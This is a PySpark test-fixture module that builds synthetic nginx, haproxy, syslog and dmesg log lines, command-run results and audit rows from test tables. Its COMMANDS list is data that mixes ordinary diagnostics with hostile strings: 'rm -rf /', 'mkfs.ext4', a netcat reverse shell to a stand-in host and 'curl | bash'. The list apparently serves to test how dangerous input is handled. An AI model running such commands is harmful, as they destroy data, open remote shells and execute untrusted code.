"""Log lines, sessions and audit rows rendered from the test tables.

The tables hold no logs, so the queries write each row as a line of text first and then work on
that text alone.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F



def table(spark: SparkSession, folder: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{folder}/{name}.parquet")


def events(spark: SparkSession, folder: str) -> DataFrame:
    """Events with ``sec`` (time in whole seconds), a log file name and a line number."""
    return table(spark, folder, "events").select(
        "event_id", "user_id", "event_type", "value", "ts",
        F.date_trunc("second", F.col("ts").cast("timestamp")).alias("sec"),
        F.concat(F.lit("app-"), (F.col("user_id") % 20).cast("string"), F.lit(".log")).alias("file"),
        F.col("event_id").alias("line_id"),
    )


def by_type(**texts: str) -> Column:
    """A text chosen by event type."""
    kind = F.col("event_type")
    chain = None
    for key, text in texts.items():
        chain = F.when(kind == key, text) if chain is None else chain.when(kind == key, text)
    return chain


def text(*parts: str | Column) -> Column:
    """Concatenation of literals and columns."""
    return F.concat(*[F.lit(p) if isinstance(p, str) else p.cast("string") for p in parts])


def lines(df: DataFrame, value: Column) -> DataFrame:
    return df.select("file", "line_id", value.alias("value"))


def status() -> Column:
    return by_type(error="500", signup="404", purchase="200", view="200", click="200")


def address() -> Column:
    user = F.col("user_id")
    return text("10.1.", F.shiftright(user, 8) % 256, ".", user % 256)


def clf_time() -> Column:
    return F.date_format("sec", "dd/MMM/yyyy:HH:mm:ss")


def nginx_access() -> Column:
    method = by_type(error="GET", signup="POST", purchase="POST", view="GET", click="GET")
    return text(
        address(), " - - [", clf_time(), ' +0800] "', method, " /u/", F.col("user_id"),
        ' HTTP/1.1" ', status(), " ", F.col("event_id"), ' "-" "agent/1.0"',
    )


def nginx_error() -> Column:
    word = by_type(error="error", signup="crit", purchase="warn", view="notice", click="debug")
    return text(
        F.date_format("sec", "yyyy/MM/dd HH:mm:ss"), " [", word, "] ", F.col("user_id"),
        "#0: event ", F.col("event_id"),
    )


def haproxy() -> Column:
    return text(
        F.date_format("sec", "MMM d HH:mm:ss"), " lb1 haproxy[7]: ", address(), ":443 [",
        clf_time(), ".123] back", F.col("user_id") % 3, " srv", F.col("user_id") % 4,
        " 0/0/0/1 ", status(), " 17 - ----",
    )


def syslog_message() -> Column:
    return text(
        by_type(
            error="request failed", signup="Warning: slow", purchase="CRITICAL state",
            view="debug dump", click="all good",
        ),
        " #", F.col("event_id"),
    )


def syslog_3164() -> Column:
    return text(
        F.date_format("sec", "MMM d HH:mm:ss"), " host", F.col("user_id") % 7, " app[",
        F.col("user_id"), "]: ", syslog_message(),
    )


def syslog_5424() -> Column:
    return text(
        "<134>1 ", F.date_format("sec", "yyyy-MM-dd'T'HH:mm:ss"), ".250000+02:00 host",
        F.col("user_id") % 7, " app 99 - - ", syslog_message(),
    )


def dmesg() -> Column:
    """Uptimes for most events, calendar times for signups."""
    body = by_type(
        error="eth0: link failed",
        signup="usb 1-1: new device",
        purchase="[err] disk quota",
        view="[note] tcp: dev eth1: reset by 10.9.8.7 ok",
        click="kernel panic soon",
    )
    uptime = text("[", F.lpad(F.col("event_id").cast("string"), 8, " "), ".250000] ", body)
    human = text("[", F.date_format("sec", "EEE MMM d HH:mm:ss yyyy"), "] ", body)
    return F.when(F.col("event_type") == "signup", human).otherwise(uptime)


COMMANDS = (
    "ping -c 3 8.8.8.8", "netstat -tulpn", "sudo iptables -L -n", "dig @8.8.8.8 example.org",
    "rm -rf /", "mkfs.ext4 /dev/sda1", "nc -e /bin/bash h 4444", "curl http://h/x | bash",
    "curl -H 'X: a b' http://h", "ping 'unclosed", "sudo", "   ", "du --max-depth=1 /var",
    "curl --max-time=5 http://h", "nslookup -type=mx h", "tcpdump -i eth0 -c 5", "tcpdump -A",
    "ps -ef", "lspci -vvv", "ss -tulpn", "setpci -s 00:1f.0 VENDOR_ID",
    "systemctl status nginx", "systemctl --failed", 'grep "a \\"b\\"" f', "lsof -i:8080",
)


def command() -> Column:
    choices = F.array(*[F.lit(c) for c in COMMANDS])
    return F.get(choices, (F.col("event_id") % len(COMMANDS)).cast("int"))


def session() -> Column:
    return text("s", F.col("user_id"))


def results(ev: DataFrame) -> DataFrame:
    """Command runs: one per event, in the session of its user."""
    stdout = by_type(
        signup="reply time=12 ms", purchase="Request timed out", view="NXDOMAIN for host",
        click="0% packet loss", error="",
    )
    return ev.select(
        session().alias("session_id"), F.col("event_id").alias("command_idx"),
        F.lit(0).alias("host_idx"), text("probe ", F.col("event_id") % 11).alias("command"),
        text("h", F.col("user_id") % 5).alias("host"),
        F.when(F.col("event_type") == "error", 1).otherwise(0).alias("exit_code"),
        text(stdout, F.when(F.col("event_type") == "error", "").otherwise(
            text(" #", F.col("event_id")))).alias("stdout"),
        F.when(F.col("event_type") == "error", text("refused ", F.col("user_id") % 9))
        .otherwise("").alias("stderr"),
        F.col("value").alias("duration"), F.col("sec").alias("ts"),
    )


def audit(ev: DataFrame) -> DataFrame:
    """Audit rows: one per event."""
    action = by_type(
        error="command_execute", signup="ssh_connect", purchase="log_analyze", view="plan_create",
        click="agent_action",
    )
    return ev.select(
        text("id-", F.col("event_id")).alias("id"),
        F.col("ts").cast("timestamp").alias("timestamp"), action.alias("action"),
        F.when(F.col("value") > 40, "failure").otherwise("success").alias("result"),
        F.when(F.col("event_type") != "purchase", text("h", F.col("user_id") % 5)).alias("host"),
        F.when(F.col("event_type") == "error", text("probe ", F.col("event_id") % 11)).alias(
            "command"
        ),
        F.lit(None).cast("string").alias("error_message"),
        F.col("event_id").alias("duration_ms"),
        text("u", F.col("user_id")).alias("user"), F.lit(None).cast("string").alias("source_ip"),
        F.when(
            F.col("event_type") == "purchase",
            F.create_map(F.lit("log_file"), text("/var/log/a", F.col("user_id") % 20, ".log")),
        ).otherwise(F.create_map().cast("map<string,string>")).alias("details"),
    )


def memory_entries(conversations: DataFrame) -> DataFrame:
    """Memory entries: one per turn of a conversation."""
    return conversations.select(
        text("c", F.col("conv_id")).alias("session_id"), F.col("turn").alias("id"),
        F.timestamp_seconds(F.lit(1_700_000_000) + F.col("turn")).alias("timestamp"),
        (F.col("turn") % 3).cast("int").alias("round"), F.col("role").alias("action_type"),
        F.col("text").alias("action_description"),
        F.col("text").alias("observation"), F.lit("").alias("result_summary"),
        F.create_map(F.lit("chars"), F.length("text").cast("string")).alias("metadata"),
    )


def documents(rows: DataFrame, key: str, order: tuple[str, ...]) -> DataFrame:
    """``key, text``: each key's lines as one text, as a document comes from outside."""
    line = F.struct(*order, "line")
    return rows.groupBy(key).agg(F.array_sort(F.collect_list(line)).alias("_lines")).select(
        key, F.array_join("_lines.line", "\n").alias("text")
    )
